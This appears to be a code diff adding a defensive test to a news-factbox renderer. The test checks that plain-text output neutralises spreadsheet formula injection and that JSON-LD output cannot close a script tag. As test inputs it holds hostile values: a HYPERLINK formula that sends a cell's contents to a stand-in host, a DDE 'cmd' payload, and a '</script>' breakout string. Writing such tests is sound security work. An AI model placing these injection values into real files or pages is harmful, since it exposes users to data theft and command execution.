@@ -93,6 +93,17 @@ test("plain text has one address, the article's", () => {
   expect(rendered).toContain("• €12 million (€12,000,000)");
 });
 
+test("plain text gives a spreadsheet no formula, and JSON-LD ends no script", () => {
+  const titled = (title: string) => ({ ...factbox, article: { ...article, title } });
+  const firstLine = (title: string) => textFormat.render(titled(title), circumstance).split("\n")[0];
+  expect(firstLine('=HYPERLINK("https://orlan.example?"&A1)')).toBe(`'=HYPERLINK("https://orlan.example?"&A1)`);
+  expect(firstLine("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
+  expect(firstLine("-12 degrees: Orlan freezes (again)")).toBe("-12 degrees: Orlan freezes (again)");
+  const json = jsonLdFormat.render(titled("</script><!-- Orlan"), circumstance);
+  expect(json).not.toContain("<");
+  expect(JSON.parse(json).headline).toBe("</script><!-- Orlan");
+});
+
 test("a copy says when its article was updated, also where the day of publication is unknown", () => {
   const day = (fields: object) =>
     textFormat.render({ ...factbox, article: { ...article, conflictingDate: null, ...fields } }, circumstance);
